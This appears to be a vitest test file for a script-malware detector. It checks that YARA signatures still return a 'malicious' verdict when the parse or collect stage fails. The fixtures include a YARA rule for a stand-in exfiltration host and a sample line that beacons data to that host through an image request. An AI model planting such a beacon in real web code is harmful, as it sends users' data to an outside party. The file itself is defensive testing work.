import { describe, expect, it, vi } from 'vitest'
import type * as Collect from '../../detector/collect.ts'
import { ANALYSIS_ERROR, analyzeScript, compileSignatures } from '../../detector/index.ts'
import type * as Parse from '../../detector/parse.ts'

// The parse and collect stages as a whole fail on scripts carrying this marker.
const POISON = 'STAGE_POISON'

vi.mock('../../detector/collect.ts', async (original) => {
  const real = await original<typeof Collect>()
  return {
    ...real,
    collectLayer: (...args: Parameters<typeof real.collectLayer>) => {
      if (args[0].source.includes(`${POISON}:collect`)) throw new TypeError('collect bug')
      return real.collectLayer(...args)
    },
  }
})
vi.mock('../../detector/parse.ts', async (original) => {
  const real = await original<typeof Parse>()
  return {
    ...real,
    readSource: (source: string) => {
      if (source.includes(`${POISON}:parse`)) throw new Error('parser bug')
      return real.readSource(source)
    },
  }
})

const signatures = compileSignatures({
  yara: [
    {
      name: 'campaign.yar',
      source:
        'rule Campaign_Exfil_Host {\n  meta:\n    score = 80\n  strings:\n    $h = "collect.badcdn-example.net"\n  condition:\n    $h\n}\n',
    },
  ],
  json: [],
})

describe('when a whole stage fails, the verdict comes from what is left', () => {
  it.each([
    ['parse', /parse failed: parser bug/],
    ['collect', /collect failed: collect bug/],
  ])(
    '%s: the signatures over the raw text still judge, with the error beside them',
    (stage, msg) => {
      const src = `// ${POISON}:${stage}\nnew Image().src = 'https://collect.badcdn-example.net/p?d=' + x\n`
      const v = analyzeScript(src, { signatures })
      expect(v.verdict).toBe('malicious')
      expect(v.findings.find((f) => f.rule === 'yara:Campaign_Exfil_Host')).toMatchObject({
        line: 2,
      })
      expect(v.findings.find((f) => f.rule === ANALYSIS_ERROR)).toMatchObject({
        points: 0,
        message: expect.stringMatching(msg),
      })
    },
  )

  it('without a signature hit the script is clean, and says its analysis failed', () => {
    const v = analyzeScript(`// ${POISON}:collect\nvar a = 1\n`, { signatures })
    expect(v.verdict).toBe('clean')
    expect(v.findings.map((f) => f.rule)).toEqual([ANALYSIS_ERROR])
  })
})
